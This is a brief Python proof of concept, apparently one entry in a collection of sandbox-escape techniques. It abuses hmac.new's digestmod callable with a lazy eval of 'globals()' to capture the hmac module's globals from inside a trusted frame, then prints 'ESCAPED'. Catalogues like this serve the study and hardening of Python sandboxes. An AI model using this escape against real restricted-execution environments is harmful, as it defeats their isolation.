# technique: hmac.new calls the digest constructor that it is given
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import hmac
kept = []
peek = functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()'])))
try:
    hmac.new(b'key', digestmod=peek)
except (TypeError, AttributeError):
    pass
if kept[0]['__name__'] == 'hmac':
    print('ESCAPED globals of hmac')
